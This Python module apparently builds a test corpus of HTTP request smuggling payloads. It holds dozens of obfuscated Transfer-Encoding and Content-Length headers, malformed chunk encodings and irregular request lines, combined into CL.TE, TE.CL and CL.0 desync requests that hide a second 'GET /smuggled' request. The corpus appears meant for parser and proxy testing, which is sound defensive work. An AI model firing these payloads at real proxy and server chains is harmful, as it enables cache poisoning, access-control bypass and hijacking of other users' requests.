"""Corpus: what clients send to make a proxy and a server behind it disagree on where a request ends.

In the bytes `|` stands for CRLF. `/smuggled` must only ever be a request that the router, too, took for one.
"""

from __future__ import annotations

_POST = b"POST /%b HTTP/1.1|Host: a|"
_SMUGGLED = b"GET /smuggled HTTP/1.1|Host: a|X: y"
_TE = b"Transfer-Encoding: chunked|"

_SPELLINGS = {
    "plain": _TE,
    "blank before colon": b"Transfer-Encoding : chunked|",
    "tab before colon": b"Transfer-Encoding\t: chunked|",
    "no blank": b"Transfer-Encoding:chunked|",
    "tab": b"Transfer-Encoding:\tchunked|",
    "many blanks": b"Transfer-Encoding:     chunked|",
    "vertical tab before": b"Transfer-Encoding:\x0bchunked|",
    "vertical tab after": b"Transfer-Encoding: chunked\x0b|",
    "form feed": b"Transfer-Encoding: \x0cchunked|",
    "trailing blank": b"Transfer-Encoding: chunked |",
    "trailing tab": b"Transfer-Encoding: chunked\t|",
    "leading blank": b" Transfer-Encoding: chunked|",
    "after another field's fold": b"X: y| Transfer-Encoding: chunked|",
    "fold": b"Transfer-Encoding:| chunked|",
    "fold by tab": b"Transfer-Encoding:|\tchunked|",
    "fold in the name": b"Transfer-Encoding| : chunked|",
    "bare LF before": b"X: y\nTransfer-Encoding: chunked|",
    "bare CR before": b"X: y\rTransfer-Encoding: chunked|",
    "bare LF after": b"Transfer-Encoding: chunked\n",
    "CR CR LF": b"Transfer-Encoding: chunked\r|",
    "LF in the name": b"Transfer-Encoding\n: chunked|",
    "NUL in the name": b"Transfer-Encoding\x00: chunked|",
    "NUL after": b"Transfer-Encoding: chunked\x00|",
    "DEL": b"Transfer-Encoding: chunked\x7f|",
    "nbsp before colon": b"Transfer-Encoding\xa0: chunked|",
    "nbsp after": b"Transfer-Encoding: chunked\xa0|",
    "xchunked": b"Transfer-Encoding: xchunked|",
    "quoted": b"Transfer-Encoding: \"chunked\"|",
    "single quotes": b"Transfer-Encoding: 'chunked'|",
    "comma before": b"Transfer-Encoding: ,chunked|",
    "comma after": b"Transfer-Encoding: chunked,|",
    "identity first": b"Transfer-Encoding: identity, chunked|",
    "identity last": b"Transfer-Encoding: chunked, identity|",
    "parameter": b"Transfer-Encoding: chunked;q=0.1|",
    "cow": b"Transfer-Encoding: cow|",
    "cow second": _TE + b"Transfer-encoding: cow|",
    "cow first": b"Transfer-encoding: cow|" + _TE,
    "twice": _TE + _TE,
    "identity in a second": _TE + b"Transfer-Encoding: identity|",
    "capitals": b"TRANSFER-ENCODING: CHUNKED|",
    "mixed case": b"tRANSFER-eNCODING: cHuNkEd|",
    "underscore": b"Transfer_Encoding: chunked|",
    "kelvin sign": b"Transfer-Encoding: chun\xe2\x84\xaaed|",
    "named by Connection": b"Connection: Transfer-Encoding|" + _TE,
    "HTTP2-Settings": b"Connection: HTTP2-Settings|HTTP2-Settings: x|" + _TE,
    "empty": b"Transfer-Encoding: |",
    "empty, then chunked": b"Transfer-Encoding: |" + _TE,
}
_LENGTHS = {
    "signed": b"Content-Length: +%d|",
    "negative": b"Content-Length: -%d|",
    "hexadecimal": b"Content-Length: 0x%x|",
    "octal": b"Content-Length: 0%o|",
    "fraction": b"Content-Length: %d.0|",
    "exponent": b"Content-Length: %de0|",
    "list": b"Content-Length: %d, 0|",
    "list reversed": b"Content-Length: 0, %d|",
    "twice": b"Content-Length: %d|Content-Length: 0|",
    "twice reversed": b"Content-Length: 0|Content-Length: %d|",
    "underscore": b"Content_Length: %d|",
    "underscore and dash": b"Content_Length: %d|Content-Length: 0|",
    "blank before colon": b"Content-Length : %d|",
    "vertical tab": b"Content-Length: \x0b%d|",
    "nbsp": b"Content-Length: \xa0%d|",
    "NUL in the name": b"Content-Length\x00: %d|",
    "fold": b"Content-Length:| %d|",
    "in a fold": b"X: y| Content-Length: %d|",
    "after a bare LF": b"X: y\nContent-Length: %d|",
    "after a bare CR": b"X: y\rContent-Length: %d|",
    "named by Connection": b"Connection: Content-Length|Content-Length: %d|",
    "named by Connection with close": b"Connection: close, Content-Length|Content-Length: %d|",
    "digits of Arabic": b"Content-Length: %d\xd9\xa0|",
    "underscores between digits": b"Content-Length: %d_0|",
    "trailing comma": b"Content-Length: %d,|",
    "over 64 bits": b"Content-Length: 18446744073709551616%d|",
    "Expect": b"Expect: 100-continue|Content-Length: %d|",
    "obfuscated Expect": b"Expect: y 100-continue|Content-Length: %d|",
    "upgrade": b"Connection: Upgrade|Upgrade: foo|Content-Length: %d|",
    "upgrade to h2c": b"Connection: Upgrade, HTTP2-Settings|Upgrade: h2c|HTTP2-Settings: AA|Content-Length: %d|",
    "upgrade to WebSocket": b"Connection: Upgrade|Upgrade: websocket|Sec-WebSocket-Version: 13|Content-Length: %d|",
}
_CHUNKS = {
    "TERM.EXT": b"5;\nhello|0||",
    "EXT.TERM": b"5;a\n|hello|0||",
    "bare LF after size": b"5\nhello|0||",
    "bare CR after size": b"5\rhello|0||",
    "extension with a request": b"2;\n" + b"xx|" + b"23|0||" + _SMUGGLED + b"||0||",
    "TERM.SPILL": b"5|helloXX0||",
    "SPILL.TERM": b"5|hello\n|0||",
    "one byte spilt": b"5|helloX|0||",
    "no line break": b"5|hello0||",
    "quoted line break": b"5;a=\"|0||" + _SMUGGLED + b"||\"|hello|0||",
    "overflow": b"100000000000000005|hello|0||",
    "negative": b"-1|hello|0||",
    "hexadecimal prefix": b"0x5|hello|0||",
    "underscore": b"5_|hello|0||",
    "blank before size": b" 5|hello|0||",
    "blank after size": b"5 |hello|0||",
    "empty size": b"|hello|0||",
    "zeros": b"0000000000000005|hello|0||",
    "many zeros for the end": b"5|hello|000000||",
    "last chunk with LF": b"5|hello|0\n\n" + _SMUGGLED + b"||",
    "last chunk with CR": b"5|hello|0|\r" + _SMUGGLED + b"||",
    "last chunk with an extension": b"5|hello|0;a=b||" + _SMUGGLED + b"||",
    "trailer": b"5|hello|0|X: y||",
    "trailer: length": b"5|hello|0|Content-Length: 50||" + _SMUGGLED + b"||",
    "trailer: coding": b"5|hello|0|Transfer-Encoding: chunked||" + _SMUGGLED + b"||",
    "trailer: forwarded": b"5|hello|0|X-Forwarded-For: 6.6.6.6||",
    "trailer: request line": b"5|hello|0|GET /smuggled HTTP/1.1|Host: a||",
    "trailer with LF": b"5|hello|0|X: y\n\n" + _SMUGGLED + b"||",
    "trailer with CR": b"5|hello|0|X: y\r\r" + _SMUGGLED + b"||",
    "trailer folded": b"5|hello|0|X: y| GET /smuggled HTTP/1.1||",
    "a request behind": b"0||" + _SMUGGLED + b"||",
    "a request in a chunk": b"23|" + _SMUGGLED + b"||0||",
}
_LINES = {
    "two versions": b"GET / HTTP/1.1 HTTP/1.1|Host: a||",
    "a request in the target": b"GET /|GET /smuggled HTTP/1.1|Host: a||",
    "bare LFs": b"GET / HTTP/1.1\nHost: a\n\n" + _SMUGGLED + b"||",
    "bare CRs": b"GET / HTTP/1.1\rHost: a\r\r" + _SMUGGLED + b"||",
    "CR in the target": b"GET /\rX HTTP/1.1|Host: a||",
    "tabs": b"GET\t/\tHTTP/1.1|Host: a||",
    "form feed": b"GET\x0c/\x0cHTTP/1.1|Host: a||",
    "HTTP/0.9": b"GET /|" + _SMUGGLED + b"||",
    "HTTP/1.0 with chunks": b"POST / HTTP/1.0|Host: a|Connection: keep-alive|" + _TE + b"|0||" + _SMUGGLED + b"||",
    "HTTP/1.0 without length": b"POST / HTTP/1.0|Host: a|Connection: keep-alive||" + _SMUGGLED + b"||",
    "HTTP/2": b"PRI * HTTP/2.0||SM||" + _SMUGGLED + b"||",
    "HTTP/1.2": b"POST / HTTP/1.2|Host: a|" + _TE + b"|0||" + _SMUGGLED + b"||",
    "RTSP": b"GET / RTSP/1.0|Host: a||" + _SMUGGLED + b"||",
    "CONNECT": b"CONNECT a:80 HTTP/1.1|Host: a||" + _SMUGGLED + b"||",
    "two Hosts": b"GET / HTTP/1.1|Host: a|Host: b||",
    "absolute form against Host": b"GET http://a/ HTTP/1.1|Host: b||",
    "Host with a line break": b"GET / HTTP/1.1|Host: a\n" + _SMUGGLED + b"||",
    "encoded line breaks": b"GET /%0d%0aX:%20y%0d%0a%0d%0aGET%20/smuggled HTTP/1.1|Host: a||",
    "empty lines between": b"GET / HTTP/1.1|Host: a|||||GET /2 HTTP/1.1|Host: a||",
    "a field without a name": b"GET / HTTP/1.1|Host: a|: |X: y||",
    "a field without a colon": b"GET / HTTP/1.1|Host: a|GET /smuggled HTTP/1.1||",
    "HEAD with a body": b"HEAD / HTTP/1.1|Host: a|Content-Length: 35||" + _SMUGGLED + b"||",
    "GET with a body": b"GET / HTTP/1.1|Host: a|Content-Length: 38||" + _SMUGGLED + b"||",
    "DELETE with chunks": b"DELETE / HTTP/1.1|Host: a|" + _TE + b"|0||" + _SMUGGLED + b"||",
    "pipelined": b"GET /1 HTTP/1.1|Host: a||GET /2 HTTP/1.1|Host: a||GET /3 HTTP/1.1|Host: a||",
}


def _wire(data: bytes) -> bytes:
    return data.replace(b"|", b"\r\n")


def _clte(te: bytes) -> bytes:
    """Ends for the length behind the smuggled request, for chunks before it."""
    body = _wire(b"0||" + _SMUGGLED)
    return _wire(_POST % b"clte" + b"Content-Length: %d|" % len(body) + te + b"|") + body


def _tecl(te: bytes) -> bytes:
    """Ends for chunks behind the smuggled request, for the length before it."""
    inner = _wire(_SMUGGLED + b"|Content-Length: 9|")
    size = _wire(b"%x|" % len(inner))
    return _wire(_POST % b"tecl" + b"Content-Length: %d|" % len(size) + te + b"|") + size + inner + _wire(b"|0||")


def _cl0(line: bytes) -> bytes:
    body = _wire(_SMUGGLED + b"||")
    return _wire(_POST % b"cl0") + _wire(line % len(body) + b"|") + body


CORPUS: dict[str, bytes] = {
    **{f"CL.TE {name}": _clte(te) for name, te in _SPELLINGS.items()},
    **{f"TE.CL {name}": _tecl(te) for name, te in _SPELLINGS.items()},
    **{f"TE {name}": _wire(_POST % b"te" + te + b"|0||" + _SMUGGLED + b"||") for name, te in _SPELLINGS.items()},
    **{f"CL.0 {name}": _cl0(line) for name, line in _LENGTHS.items()},
    **{f"chunks {name}": _wire(_POST % b"chunks" + _TE + b"|" + chunks) for name, chunks in _CHUNKS.items()},
    **{f"line {name}": _wire(line) for name, line in _LINES.items()},
}
